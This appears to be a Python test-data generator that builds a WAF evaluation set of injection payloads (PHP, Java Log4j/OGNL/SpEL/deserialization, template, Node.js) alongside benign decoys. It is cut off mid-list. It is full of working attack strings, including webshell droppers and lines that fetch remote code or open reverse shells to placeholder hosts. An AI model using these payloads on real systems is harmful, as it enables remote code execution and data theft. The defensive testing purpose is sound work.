"""Blind set "fifteenth": PHP code injection, Java expression/lookup/deserialization injection and the
"generic" families (Node.js code injection, prototype pollution, SSRF, Ruby and Python code injection and the
template probes that reach them), at specialist depth, with benign requests that share their vocabulary.

Written independently for this repository by a helper session, from general knowledge of each technique and
of real traffic: no WAF rule of this repository, no ruleset file or regression test and no public payload list
(PayloadsAllTheThings, SecLists, fuzzdb, ...) was read or searched, and no payload or text was changed after
the set was measured. Only the record helpers of family_gen.py and family_gen_blind_php.py are reused.

Attacks: every payload goes into three of our input places (query, form, JSON, cookie, header), rotating, with
a parameter name of PARAMS rotating alongside; prototype pollution is also sent in query-string keys and JSON
keys. Benign: developers' Slack messages and bios (stack traces, logs, code talk), documentation links, prose
typed into the admin search, company names, configuration values and search queries. Deterministic.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from .family_gen import _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, three_places
from .records import numbered, print_records

PARAMS = ["template", "expr", "callback", "filter", "sort", "config", "redirect_to", "lang", "payload",
          "format", "handler", "view"]

# --------------------------------------------------------------------------------------------------------------
# PHP: every way code reaches eval/assert/system/include.
# --------------------------------------------------------------------------------------------------------------
PHP: dict[str, list[str]] = {
    "php-dynamic-call": [
        "<?php $f='sys'.'tem'; $f('id'); ?>",
        "$a=\"as\".\"sert\";$a($_POST['x']);",
        "$s='pass'.'thru';$s('cat /etc/passwd');",
        "$f=implode('',['sh','ell','_ex','ec']);echo $f('uname -a');",
        "$fn=str_replace('x','','sxyxsxtxexm');$fn('whoami');",
        "$q=strrev('metsys');$q('ls -la /var/www');",
        "$c=\"pr\".\"oc_\".\"open\";$c('nc -e /bin/sh 198.51.100.5 4444',[],$p);",
        "(\"sys\".\"tem\")(\"id\");",
        "[$a,$b]=['exec','id'];echo $a($b);",
        "$_='popen';$_('/bin/sh -i','r');",
        "$k='f';$$k='shell_exec';echo $f('id');",
        "@$_GET['f']($_GET['c']);",
        "substr('xxsystemxx',2,6)('id');",
        "$f=sprintf('%s%s','ass','ert');$f($_REQUEST['cmd']);",
    ],
    "php-callback": [
        "array_map('system',['id']);",
        "array_map($_GET['f'],[$_GET['c']]);",
        "call_user_func('assert',$_POST['code']);",
        "call_user_func_array('system',array('cat /etc/passwd'));",
        "usort($_GET,'passthru');",
        "array_filter(['id','uname -a'],'system');",
        "array_walk($_POST,'assert');",
        "register_shutdown_function('system','curl http://203.0.113.9/x|sh');",
        "ob_start('system');echo 'id';ob_end_flush();",
        "iterator_apply(new ArrayIterator([1]),'system',['id']);",
        "array_reduce(['whoami'],function($c,$i){return system($i);});",
        "(new ReflectionFunction('shell_exec'))->invoke('id');",
        "(new ReflectionFunction('system'))->invokeArgs(['uname -a']);",
        "$f=create_function('','system($_GET[\"c\"]);');$f();",
        "create_function('$a','return 1;}system(\"id\");/*');",
        "Closure::fromCallable('system')('id');",
        "(new ReflectionMethod('Closure','fromCallable'))->invoke(null,'passthru')('ls /');",
        "set_error_handler('system');trigger_error('id');",
        "preg_replace_callback('/.*/','system','id');",
        "filter_var('id',FILTER_CALLBACK,['options'=>'system']);",
        "$x=fn($c)=>system($c);$x($_COOKIE['c']);",
    ],
    "php-preg-e": [
        "preg_replace('/.*/e','system(\"id\")','');",
        "preg_replace(\"/x/e\",$_GET['c'],\"x\");",
        "preg_replace('#(.*)#e','eval(\"$1\")',$_POST['p']);",
        "preg_replace(\"/\\w+/ie\",\"strtoupper('\\\\0').system('uname')\",\"abc\");",
        "mb_ereg_replace('.+','system($_GET[1])','a','e');",
        "mb_eregi_replace('a','passthru(\"id\")','a','msre');",
        "/.*/e",
    ],
    "php-backtick": [
        "<?php echo `id`; ?>",
        "<?=`$_GET[0]`?>",
        "$o=`cat /etc/passwd`;print $o;",
        "echo `{$_POST['c']}`;",
        "$r=`curl -s http://198.51.100.7/s.sh | bash`;",
        "print(`ls -la /var/www/html`);",
        "<?php $x=`wget -qO- 203.0.113.50/k|sh`; ?>",
    ],
    "php-superglobal": [
        "eval($_POST['c']);",
        "assert($_REQUEST[1]);",
        "system($_SERVER['HTTP_X_CMD']);",
        "${\"_GET\"}['a'](${\"_GET\"}['b']);",
        "$GLOBALS['_POST']['x']($GLOBALS['_POST']['y']);",
        "eval(${\"\\x5f\\x50\\x4f\\x53\\x54\"}['z']);",
        "$_COOKIE['f']($_COOKIE['a']);",
        "eval($_ENV['PAYLOAD']);",
        "include($_FILES['f']['tmp_name']);",
        "eval($HTTP_RAW_POST_DATA);",
        "extract($_GET);$a($b);",
        "parse_str($_SERVER['QUERY_STRING']);$f($c);",
        "@eval(getenv('HTTP_X_CODE'));",
        "eval(${'_'.'REQ'.'UEST'}['c']);",
        "{${system($_GET[c])}}",
        "\"${@eval($_POST[x])}\"",
        "assert(${\"_P\".\"OST\"}[\"pass\"]);",
    ],
    "php-wrapper": [
        "php://filter/convert.base64-encode/resource=index.php",
        "php://filter/read=string.rot13/resource=config.php",
        "php://filter/convert.iconv.UTF-8.UTF-16LE|convert.base64-encode/resource=/etc/passwd",
        "php://filter/zlib.deflate/convert.base64-encode/resource=wp-config.php",
        "PHP://FiLtEr/convert.base64-encode/resource=../../app/config/parameters.yml",
        "php://input",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
        "data:text/plain,<?php phpinfo();?>",
        "expect://id",
        "zip:///var/www/uploads/a.zip#s.php",
        "compress.zlib://php://input",
        "glob:///var/www/*",
        "file:///etc/passwd",
        "php://filter/string.toupper|string.rot13|convert.quoted-printable-encode/resource=/proc/self/environ",
        "php://filter/convert.iconv.L1.UCS-4LE/resource=data://,<?php system('id');?>",
        "include('php://filter/resource=http://198.51.100.3/x.txt');",
        "ssh2.exec://deploy:hunter2@10.0.0.2:22/id",
        "php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex",
        "file_put_contents('php://filter/write=convert.base64-decode/resource=s.php','PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+');",
        "http://203.0.113.77/shell.txt?",
    ],
    "php-phar": [
        "phar://uploads/2024/06/avatar.jpg",
        "phar:///var/www/html/uploads/img.png/test.txt",
        "file_exists('phar://'.$_GET['p']);",
        "PHAR://./storage/tmp/../../x.gif",
        "phar://../../../../tmp/sess_abc123",
        "compress.zlib://phar:///tmp/php8Hk2.jpg/a",
        "compress.bzip2://phar:///tmp/upload.jpg",
        "GIF89a<?php __HALT_COMPILER(); ?>",
    ],
    "php-object": [
        "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
        "a:1:{i:0;O:7:\"Example\":1:{s:4:\"hook\";s:6:\"system\";}}",
        "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\\0*\\0events\";O:25:\"Illuminate\\Bus\\Dispatcher"
        "\":1:{s:16:\"\\0*\\0queueResolver\";s:6:\"system\";}s:8:\"\\0*\\0event\";s:2:\"id\";}",
        "O:+4:\"User\":1:{s:5:\"admin\";b:1;}",
        "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:1:{s:1:\"x\";s:2:\"id\";}}",
        "a:2:{i:0;s:4:\"exec\";i:1;O:6:\"Logger\":1:{s:7:\"logFile\";s:22:\"/var/www/html/shell.php\";}}",
        "O:6:\"Logger\":2:{s:4:\"path\";s:14:\"/tmp/shell.php\";s:4:\"data\";s:28:\"<?php system($_GET['c']); ?>\";}",
        "O:8:\"TempFile\":1:{s:8:\"filename\";s:25:\"../../../../../etc/passwd\";}",
        "class X{public function __destruct(){eval($this->code);}}",
        "O:31:\"GuzzleHttp\\Cookie\\FileCookieJar\":1:{s:41:\"\\0GuzzleHttp\\Cookie\\FileCookieJar\\0filename\";"
        "s:20:\"/var/www/html/s.php\";}",
        "a:1:{s:4:\"user\";O:8:\"Customer\":1:{s:7:\"isAdmin\";b:1;}}",
        "Tzo0OiJVc2VyIjoxOntzOjU6ImFkbWluIjtiOjE7fQ==",
        "O:4:\"Test\":1:{s:3:\"cmd\";s:2:\"id\";}",
        "O:1:\"A\":2:{s:1:\"a\";s:6:\"system\";s:1:\"b\";R:2;}",
        "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\\0*\\0socket\";O:29:\"Monolog\\Handler\\BufferHandler\":0:{}}",
        "O:22:\"__PHP_Incomplete_Class\":1:{s:27:\"__PHP_Incomplete_Class_Name\";s:4:\"Evil\";}",
        "unserialize($_COOKIE['cart']);",
    ],
    "php-tag": [
        "<?php system('id'); ?>",
        "<?= system($_GET['c']) ?>",
        "<? passthru($_REQUEST['x']); ?>",
        "<script language=\"php\">system(\"id\");</script>",
        "<% system($_GET['c']); %>",
        "<?PHP EVAL($_POST[1]);?>",
        "<?php\nphpinfo();",
        "GIF89a;<?php @eval($_POST['pass']);?>",
        "<?php/**/system('id');",
        "%3C%3Fphp%20system%28%27id%27%29%3B%3F%3E",
        "<?php require_once('http://198.51.100.8/b.txt'); ?>",
        "JFIF<?php system($_GET[0]);__halt_compiler();",
        "<?php fputs(fopen('s.php','w'),'<?php eval($_POST[a]);?>'); ?>",
    ],
    "php-comment-space": [
        "system/**/('id');",
        "eval /* */ ( $_POST [ 'a' ] ) ;",
        "assert#x\n($_GET[1]);",
        "system\t(\t'id'\t);",
        "exec //\n('id');",
        "\"phpinfo\"();",
        "('system')('id');",
        "sYsTeM('id');",
        "\\system('id');",
        "passthru\n('ls');",
        "$a='id';shell_exec /*x*/ ($a);",
        "eval(/*\"*/$_POST/*\"*/['x']);",
    ],
    "php-obfuscation": [
        "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));",
        "assert(base64_decode($_POST['z']));",
        "eval(str_rot13('flfgrz(\"vq\");'));",
        "eval(gzinflate(base64_decode('K64sLknN1VCJD/APDolWT85NUY/VtAYA')));",
        "eval(gzuncompress(base64_decode('eJwrSCwuLskoKtVQL81LzE1V0E1U17QGAFeqBxk=')));",
        "eval(\"\\x73\\x79\\x73\\x74\\x65\\x6d('id');\");",
        "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"(\"id\");",
        "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
        "eval(hex2bin('73797374656d2827696427293b'));",
        "$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');$_($_POST[0]);",
        "$__=(\"#\"^\"|\").(\".\"^\"~\").(\"/\"^\"`\").(\"|\"^\"/\").(\"{\"^\"/\");${$__}[_](${$__}[__]);",
        "$_=~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\";$_('id');",
        "(~\"\\x8f\\x97\\x8f\\x96\\x91\\x99\\x90\")();",
        "eval(strrev(';)\"di\"(metsys'));",
        "eval(convert_uudecode('-<WES=&5M*\"=I9\"<I.P``'));",
        "${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}['_GET'][0]();",
        "\"\\163\\171\\163\\164\\145\\155\"('id');",
        "$k=base64_decode('c3lzdGVt');$k('id');",
        "eval(gzinflate(str_rot13(base64_decode('K8rMq9RQiXcNcvEIcnOPVq9Qj9W0BgA='))));",
        "$x=strtr('flfgrz','abcdefghijklmnopqrstuvwxyz','nopqrstuvwxyzabcdefghijklm');$x('id');",
        "eval(implode(array_map('chr',[115,121,115,116,101,109,40,39,105,100,39,41,59])));",
        "$_=[];$_=@\"$_\";$_=$_['!'=='@'];$__=$_;$__++;$__++;$__++;$__++;",
        "\"\\u{73}ystem\"('id');",
        "eval(base64_decode(strrev('==wOpcCZpdCKtVGdzl3c')));",
        "assert(str_rot13('riny($_CBFG[1]);'));",
    ],
    "php-fragment": [
        "phpinfo()",
        ";system('id');",
        "${@phpinfo()}",
        "');passthru('ls');//",
        "\".shell_exec('id').\"",
        "{${eval($_GET[1])}}",
        "1;eval($_POST[0])",
        "include 'http://203.0.113.4/x.txt';",
        "file_put_contents('x.php','<?php eval($_POST[1]);');",
        "exit(shell_exec($_GET['c']));",
        "ini_set('allow_url_include','1');",
        "mail('a@b.c','s','m','','-X/var/www/html/log.php');",
        "putenv('LD_PRELOAD=/tmp/x.so');mail('a','b','c');",
        "'.phpinfo().'",
    ],
    "php-template": [
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "{{['id']|filter('system')}}",
        "{{['cat /etc/passwd']|map('passthru')|join}}",
        "{php}system('id');{/php}",
        "{system('ls -la')}",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
        "self::clearConfig())}",
        "@php system('id') @endphp",
    ],
}

# --------------------------------------------------------------------------------------------------------------
# Java: Log4j, JNDI, OGNL, SpEL, MVEL, JEXL, EL, Groovy, script engines, reflection, class loading,
# deserialization, Spring actuator / cloud function, Struts, Velocity and Freemarker.
# --------------------------------------------------------------------------------------------------------------
JAVA: dict[str, list[str]] = {
    "java-log4j": [
        "${jndi:ldap://198.51.100.14:1389/a}",
        "${jndi:rmi://203.0.113.7:1099/Exploit}",
        "${jndi:dns://oob.attacker.example/x}",
        "${jndi:ldaps://x.example:636/o}",
        "${jndi:iiop://198.51.100.2/x}",
        "${jndi:corba://198.51.100.2:1050/y}",
        "${jndi:http://x.example/a}",
        "${${lower:j}ndi:${lower:l}dap://x.example/a}",
        "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x.example/b}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.9/p}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/b}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/c}",
        "${j${k8s:k5:-ND}i:ldap://x.example/d}",
        "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://x.example/e}",
        "${jndi:ldap://${env:USER}.${sys:java.version}.oob.example/x}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${java:runtime}",
        "${bundle:application:spring.datasource.password}",
        "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
        "Mozilla/5.0 (X11; Linux x86_64) ${jndi:ldap://x.example/ua}",
        "${${lower:${lower:jndi}}:${lower:rmi}://x.example/p}",
        "${${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}}",
        "${jnd${sys:SYS_NAME:-i}:ldap://x.example/f}",
        "${j${lower:N}${lower:D}i:ldap://x.example/g}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/q}",
        "\\u0024\\u007bjndi:ldap://x.example/a}",
        "${jndi:ldap://x.example:1389/Basic/Command/Base64/aWQ=}",
        "${jndi:rmi://x.example:1099/TomcatBypass/Command/id}",
        "${ctx:loginId}${hostName}${jndi:ldap://x.example/h}",
        "$%7Bjndi:ldap://x.example/j%7D",
    ],
    "java-jndi-jdbc": [
        "ldap://198.51.100.5:389/cn=Exploit,dc=example,dc=org",
        "rmi://198.51.100.5:1099/Object",
        "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://x.example/a.sql'",
        "jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception"
        "{Runtime.getRuntime().exec(c);return null;}'\\;CALL EXEC('id')",
        "jdbc:mysql://198.51.100.6:3306/db?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors."
        "ServerStatusDiffInterceptor",
        "jdbc:postgresql://localhost/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
        "&socketFactoryArg=http://x.example/bean.xml",
        "jdbc:derby:memory:db;create=true;startMaster=true;slaveHost=198.51.100.7",
        "{\"jndiName\":\"ldap://x.example:1389/Exploit\"}",
    ],
    "java-ognl-struts": [
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess="
        "#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container."
        "getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())."
        "(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang."
        "ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start())}",
        "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
        "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,#_memberAccess['allowStaticMethodAccess']=true,"
        "@java.lang.Runtime@getRuntime().exec('id')}",
        "(#cmd='whoami').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())",
        "%{1337*2}",
        "redirect:${#a=new java.lang.ProcessBuilder(new java.lang.String[]{'id'}).start()}",
        "action:%{@java.lang.Runtime@getRuntime().exec('touch /tmp/x')}",
        "#_memberAccess[\"allowStaticMethodAccess\"]=true",
        "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),"
        "\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd\",#a))}",
        "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil."
        "getExcludedPackageNames().clear())",
        "method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,@java.lang.Runtime@getRuntime().exec("
        "#parameters.cmd[0]),1?#xx:#request.toString",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
        "class.classLoader.URLs[0]=jar:http://x.example/evil.jar!/",
        "<map><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind.v2."
        "runtime.unmarshaller.Base64Data\"><dataHandler/></value></jdk.nashorn.internal.objects.NativeString>"
        "</entry></map>",
    ],
    "java-spel-spring": [
        "#{T(java.lang.Runtime).getRuntime().exec('id')}",
        "${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwn\")}",
        "T(java.lang.System).getenv()",
        "#{new java.lang.ProcessBuilder({'bash','-c','id'}).start()}",
        "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream(),"
        "T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse()"
        ".getOutputStream())",
        "T(java.lang.Runtime).getRuntime().exec(\"curl http://198.51.100.6/s|sh\")",
        "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "#{T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100))}",
        "T (java.lang.Runtime).getRuntime().exec(new String(new byte[]{105,100}))",
        "#{@environment.getProperty('spring.datasource.password')}",
        "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime()"
        ".exec(new String[]{\"id\"}).getInputStream()))}",
        "spring.cloud.bootstrap.location=http://198.51.100.4/x.yml",
        "eureka.client.serviceUrl.defaultZone=http://x.example/xstream",
        "logging.config=http://x.example/logback.xml",
        "spring.datasource.hikari.connection-init-sql=CREATE ALIAS EXEC AS CONCAT('String e(String c) throws "
        "Exception{Runtime.getRuntime().exec(c);return null;}');CALL EXEC('id');",
        "{\"name\":\"spring.main.sources\",\"value\":\"http://x.example/evil.groovy\"}",
    ],
    "java-el": [
        "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
        "${applicationScope}",
        "#{facesContext.externalContext.redirect('http://x.example/')}",
        "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
        "${\"\".getClass().forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"js\")"
        ".eval(\"java.lang.Runtime.getRuntime().exec('id')\")}",
        "#{request.getClass().getClassLoader()}",
        "${pageContext.servletContext.getResource('/WEB-INF/web.xml')}",
        "${sessionScope.user.setRole('ADMIN')}",
        "#{session.setAttribute('isAdmin',true)}",
    ],
    "java-mvel-jexl": [
        "@{java.lang.Runtime.getRuntime().exec('id')}",
        "new java.lang.ProcessBuilder(['id']).start()",
        "def x() { Runtime.getRuntime().exec('id') }; x();",
        "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
        "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/text4shell')}",
        "${url:UTF-8:http://x.example/}",
        "${dns:address|x.example}",
        "${file:UTF-8:/etc/passwd}",
        "var x = new('java.lang.ProcessBuilder', ['id']); x.start()",
    ],
    "java-groovy-script": [
        "\"id\".execute().text",
        "['bash','-c','id'].execute()",
        "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(\"id\")}) def x",
        "println \"cat /etc/passwd\".execute().text",
        "this.class.classLoader.parseClass('class A{static{Runtime.runtime.exec(\"id\")}}')",
        "new GroovyShell().evaluate('\"whoami\".execute().text')",
        "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
        ".exec('id')\")",
        "Java.type('java.lang.Runtime').getRuntime().exec('id')",
        "load(\"nashorn:mozilla_compat.js\");importPackage(java.lang);Runtime.getRuntime().exec(\"id\")",
        "importClass(java.lang.Runtime);Runtime.getRuntime().exec('id');",
        "def proc = 'uname -a'.execute(); proc.waitFor(); println proc.in.text",
    ],
    "java-reflection": [
        "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class).invoke(Class.forName("
        "\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")",
        "java.lang.Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"id\"})",
        "new ProcessBuilder(\"sh\",\"-c\",\"curl x.example|sh\").start()",
        "Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.Runtime\")",
        "java.lang.invoke.MethodHandles.lookup().findStatic(Class.forName(\"java.lang.Runtime\"),\"getRuntime\","
        "java.lang.invoke.MethodType.methodType(Runtime.class))",
        "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
        "java.lang.reflect.Method m = Runtime.class.getDeclaredMethod(\"exec\", String.class); m.setAccessible(true);",
        "Runtime.getRuntime().exec(\"nc 198.51.100.5 4444 -e /bin/sh\")",
        "sun.misc.Unsafe.getUnsafe().allocateInstance(java.lang.Runtime.class)",
    ],
    "java-classload": [
        "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://x.example/e.jar\")})"
        ".loadClass(\"Exploit\").newInstance()",
        "com.sun.org.apache.bcel.internal.util.ClassLoader",
        "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dU$5bW$hU$U$fe$86$Q$s$91$E$Q",
        "ClassLoader.getSystemClassLoader().defineClass(\"Evil\",b,0,b.length)",
        "javax.management.loading.MLet",
        "{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":[\"yv66vgAAADQA\"],"
        "\"_name\":\"a\",\"_tfactory\":{},\"_outputProperties\":{}}",
    ],
    "java-deserialization": [
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0Nv"
        "bXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3LjoYjqcyKkSAIAAkwACmNv"
        "bXBhcmF0b3JxAH4AAUwACHByb3BlcnR5dAASTGphdmEvbGFuZy9TdHJpbmc7eHBzcgA6Y29tLnN1bi5vcmcuYXBhY2hlLnhhbGFuLmlu"
        "dGVybmFsLnhzbHRjLnRyYXguVGVtcGxhdGVzSW1wbA==",
        "H4sIAAAAAAACA1XNvUoDQRDA8ckZQSxTJL2tMGdtioA2CVyh6AuMx3Bu2NtdZ+fCJUWKVHkAX0CwtBF8mrR2gk9g4x4BP6odlvnN/+UTDqPA"
        "aE4LwkaNxSsxXowurxtu+HF39vY12bweQDaDfjQrLuC49HUgIfWiMCw6mXcyv/z5H7cBALJ0+NRLhRSovGdMrvYu4h2T60DEizT9qven7Uc8"
        "eZ5mkP2rPMAaegUcBfGBRZcKg33VkqvyGxXjqlRMtfOEMDYO/1RbSmtonLI4sthGqyWqUIu3XAdLynGW3m8PZP3DCQEAAA==",
        "aced0005737200176a6176612e7574696c2e5072696f72697479517565756594da30b4fb3f82b103000249000473697a654c000a",
        "rO0ABXNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVyh+j/a3t8zjgCAANbAAVp"
        "QXJnc3QAE1tMamF2YS9sYW5nL09iamVjdDtMAAtpTWV0aG9kTmFtZXQAEkxqYXZhL2xhbmcvU3RyaW5nOw==",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://x.example:1389/a\",\"autoCommit\":true}]",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://x.example/e\",\"autoCommit\":true}",
        "{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"ldap://x.example/f\",\"autoCommit\":true}",
        "{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"b\":{\"@type\":"
        "\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x.example/g\",\"autoCommit\":true}}",
        "{\"@type\":\"org.apache.xbean.propertyeditor.JndiConverter\",\"asText\":\"ldap://x.example/h\"}",
        "{\"@type\":\"\\u0063om.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x.example/i\"}",
        "{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"configLocation\":"
        "\"http://x.example/spel.xml\"}",
        "{\"object\":[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;"
        "TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://x.example/inject.sql'\"}]}",
        "{\"@type\":\"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory\",\"properties\":{\"data_source\":"
        "\"ldap://x.example/k\"}}",
        "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans."
        "EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target>"
        "<action>start</action></handler></dynamic-proxy></sorted-set>",
        "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void "
        "index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
        "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method="
        "\"getRuntime\"><void method=\"exec\"><string>id</string></void></object></java>",
        "<bean id=\"pb\" class=\"java.lang.ProcessBuilder\" init-method=\"start\"><constructor-arg><list><value>id"
        "</value></list></constructor-arg></bean>",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example/y.jar\"]]]]",
        "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://x.example/l\", autoCommit: true}",
    ],
    "java-template": [
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
        "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
        "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
        ".exec(\"id\")",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\",\"id\")"
        ".start()}",
        "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
        ".toURL().openStream().readAllBytes()?join(\" \")}",
        "[#assign x=\"freemarker.template.utility.JythonRuntime\"?new()][@x]import os;os.system(\"id\")[/@x]",
        "{% set cmd = 'id' %}{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec(cmd) }}",
        "<#assign classloader=object?api.class.protectionDomain.classLoader>",
    ],
}

# --------------------------------------------------------------------------------------------------------------
# Generic: Node.js, prototype pollution, SSRF, Ruby, Python, template probes.
# --------------------------------------------------------------------------------------------------------------
GENERIC: dict[str, list[str]] = {
    "nodejs": [
        "require('child_process').exec('id')",
        "global.process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()",
        "process.mainModule.constructor._load('child_process').exec('id')",
        "eval(\"require('child_process').spawn('sh',['-c','id'])\")",
        "Function('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
        "new Function(\"return this.process\")().binding('spawn_sync')",
        "this.constructor.constructor('return process')().exit()",
        "[].constructor.constructor(\"return global.process.env\")()",
        "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')",
        "vm.runInThisContext(\"process.env\")",
        "require(\"fs\").writeFileSync(\"/tmp/x\",\"y\")",
        "res.end(require('fs').readdirSync('.').toString())",
        "setTimeout(\"require('child_process').exec('id')\",0)",
        "import('child_process').then(m=>m.execSync('id'))",
